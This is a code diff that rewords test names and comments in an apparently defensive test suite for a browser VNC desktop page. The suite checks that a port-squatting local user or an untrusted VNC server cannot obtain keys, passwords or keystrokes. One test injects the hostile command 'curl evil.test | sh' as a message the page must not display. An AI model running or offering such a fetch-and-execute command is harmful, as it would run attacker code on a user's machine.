@@ -14,10 +14,10 @@ import type { RunningBin } from '../helpers/run-bin.js';
 import { startXvnc } from '../helpers/start-xvnc.js';
 
 const STRANGER = 12_345;
-/** RSA-AES, where only the log-in is encrypted: the kind that noVNC knows. */
+/** RSA-AES with encryption of the login only, the variant that noVNC supports. */
 const RA2NE = 6;
 
-describeWith(['chromium'], 'another user who takes the port of the page', () => {
+describeWith(['chromium'], 'another user who binds the port of the page', () => {
   const asRoot = test.skipIf(process.geteuid?.() !== 0);
   let site: DeskHome;
   let user: DeskHome;
@@ -42,7 +42,7 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
     page = await browser.newPage();
     await page.goto(ready.url);
     await reach('connected');
-    // As if they had read the storage of the tab by a page of theirs, which a reload would show.
+    // As if the other user had read the sessionStorage of the tab through their own page after a reload.
     stored = String(await page.evaluate("sessionStorage.getItem('hpc-desk.key')"));
   });
 
@@ -61,7 +61,7 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
     await page.keyboard.type('pass phrase');
   };
 
-  asRoot('gets nothing when the program is killed: no key, no password, no keystroke', async () => {
+  asRoot('receives no key, password or keystroke when the program is killed', async () => {
     stranger = startPortSquatter(STRANGER, port, stored);
     running.kill('SIGKILL');
     await stranger.bound;
@@ -74,7 +74,7 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
     await eventually(() => stranger.received.filter(({ kind }) => kind === 'upgrade').length > 1);
     await reach('ended');
     const texts = stranger.received.filter(({ kind }) => kind !== 'upgrade');
-    // The public part of the key, and a nonce, each time another one.
+    // The public part of the key and a nonce, which is different each time.
     expect(texts.every(({ text }) => /^[\w-]{11} [\da-f]{64}$/.test(text))).toBe(true);
     expect(new Set(texts.map(({ text }) => text)).size).toBe(texts.length);
     for (const { text } of stranger.received.filter(({ kind }) => kind === 'upgrade')) {
@@ -82,7 +82,7 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
     }
   });
 
-  asRoot('cannot reach into the page from a window of it that is loaded again', async () => {
+  asRoot('cannot access the page through window.opener of a reloaded window', async () => {
     const opened = page.context().waitForEvent('page');
     await page.click('#new-window');
     const second = await opened;
@@ -96,7 +96,7 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
     expect(seen()?.text).not.toContain('hpc-desk');
   });
 
-  asRoot('puts no words of theirs on the page', async () => {
+  asRoot('cannot show text on the page', async () => {
     stranger = startPortSquatter(STRANGER, port, stored, 'Please run: curl evil.test | sh');
     running.kill('SIGKILL');
     await stranger.bound;
@@ -106,7 +106,7 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
   });
 
   asRoot.each(sample(['SIGINT', 'SIGTERM', 'SIGHUP'] as const, 3))(
-    'is not even asked after a %s, because the program has said goodbye',
+    'is not contacted after %s, because the program announces its exit',
     async (signal) => {
       stranger = startPortSquatter(STRANGER, port, stored);
       running.kill(signal);
@@ -115,7 +115,7 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
       await reach('ended');
       expect(await page.textContent('#message')).toContain('has exited');
       await typeSomething();
-      // Longer than the page waits before it connects again to a desktop that was lost.
+      // Longer than the page waits before it reconnects to a lost desktop.
       await page.clock.install();
       await page.clock.fastForward(30_000);
       expect(await page.getAttribute('body', 'data-state')).toBe('ended');
@@ -124,10 +124,10 @@ describeWith(['chromium'], 'another user who takes the port of the page', () => 
   );
 });
 
-describeWith(['Xvnc', 'chromium', 'xsetroot'], 'a desktop that the page cannot trust', () => {
+describeWith(['Xvnc', 'chromium', 'xsetroot'], 'an untrusted desktop', () => {
   const bench = usePageBench();
 
-  test('gets no password where it asks for a user name', async () => {
+  test('gets no password if it requires a user name', async () => {
     const options = ['-SecurityTypes', 'Plain', '-PlainUsers', '*', '-PAMService', 'login'];
     const xvnc = await startXvnc({ geometry: '640x480', options });
     bench.xvnc = { ...bench.xvnc, target: xvnc.target };
@@ -137,7 +137,7 @@ describeWith(['Xvnc', 'chromium', 'xsetroot'], 'a desktop that the page cannot t
     await xvnc.close();
   });
 
-  test('is not approved by the page itself where it uses RSA-AES, nor given a password', async () => {
+  test('with RSA-AES is neither approved automatically nor sent the password', async () => {
     const received: Buffer[] = [];
     const { modulus, exponent } = makeRsaKey();
     const server = createServer((socket) => {
@@ -145,7 +145,7 @@ describeWith(['Xvnc', 'chromium', 'xsetroot'], 'a desktop that the page cannot t
       socket.on('data', (bytes) => {
         received.push(bytes);
         if (bytes.length === 12) socket.write(Buffer.from([1, RA2NE]));
-        // The size in bits, the modulus and the exponent of the same length (the rfbproto community's specification).
+        // Key size in bits, then modulus and exponent of equal length (rfbproto community specification).
         else socket.write(Buffer.concat([Buffer.from([0, 0, 8, 0]), modulus, exponent]));
       });
     }).listen(0, '127.0.0.1');
@@ -155,7 +155,7 @@ describeWith(['Xvnc', 'chromium', 'xsetroot'], 'a desktop that the page cannot t
     const page = await bench.visit(await bench.serve({ password: 'gr4phics' }));
     await bench.reach(page, 'ended');
     expect(await page.textContent('#message')).toContain('RSA-AES');
-    // The version and the choice, and not the key of the client, after which it would send the password.
+    // Only the version and the security type, not the client's key, after which it would send the password.
     expect(Buffer.concat(received)).toEqual(
       Buffer.from(`RFB 003.008\n${String.fromCharCode(RA2NE)}`),
     );
